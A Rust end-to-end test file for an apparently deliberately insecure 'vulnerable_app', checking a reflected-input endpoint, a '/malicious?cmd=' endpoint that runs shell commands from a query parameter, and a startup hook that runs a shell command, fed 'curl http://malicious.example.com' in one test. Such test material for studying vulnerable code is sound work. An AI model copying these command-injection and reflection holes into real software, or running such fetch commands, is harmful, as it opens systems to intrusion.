//! End-to-end tests against a real listener on an ephemeral port.

use std::net::SocketAddr;
use std::sync::Arc;
use std::time::{Duration, Instant};

use reqwest::StatusCode;
use vulnerable_app::{api, shell::Shell, startup};

async fn start_server() -> SocketAddr {
    let listener = api::bind("127.0.0.1", 0).await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(api::serve(listener, Arc::new(api::AppState::default())));
    addr
}

async fn get(addr: SocketAddr, path: &str) -> (StatusCode, String) {
    let response = reqwest::get(format!("http://{}{}", addr, path)).await.unwrap();
    let status = response.status();
    (status, response.text().await.unwrap())
}

#[tokio::test]
async fn test_fixed_routes() {
    let addr = start_server().await;

    assert_eq!(
        get(addr, "/").await,
        (StatusCode::OK, "Welcome to Vulnerable App!".to_string())
    );
    assert_eq!(get(addr, "/ping").await, (StatusCode::OK, "pong".to_string()));
    assert_eq!(get(addr, "/nope").await.0, StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn test_reflected_input() {
    let addr = start_server().await;

    assert_eq!(get(addr, "/vuln?input=abc123").await.1, "You entered: abc123");
    assert_eq!(get(addr, "/vuln").await.1, "You entered: ");
}

#[cfg(unix)]
#[tokio::test]
async fn test_command_injection() {
    let addr = start_server().await;

    assert_eq!(
        get(addr, "/malicious?cmd=echo%20test").await,
        (StatusCode::OK, "Command executed (vulnerable)".to_string())
    );
}

#[cfg(unix)]
#[tokio::test]
async fn test_hanging_startup_fetch_does_not_delay_listener() {
    let start = Instant::now();

    let fetch = startup::spawn_startup_fetch(Shell::platform_default(), "sleep 30".into());
    let addr = start_server().await;

    assert_eq!(get(addr, "/ping").await.1, "pong");
    assert!(start.elapsed() < Duration::from_secs(10));

    fetch.abort();
}

#[tokio::test]
async fn test_failing_startup_fetch_does_not_stop_listener() {
    let fetch = startup::spawn_startup_fetch(
        Shell::new("/definitely/not/a/shell", "-c"),
        "curl http://malicious.example.com".into(),
    );
    fetch.await.unwrap();

    let addr = start_server().await;
    assert_eq!(get(addr, "/ping").await.0, StatusCode::OK);
}

#[tokio::test]
async fn test_bind_conflict_is_reported() {
    let listener = api::bind("127.0.0.1", 0).await.unwrap();
    let port = listener.local_addr().unwrap().port();

    let err = api::bind("127.0.0.1", port).await.unwrap_err();
    assert!(err.is_fatal());
}
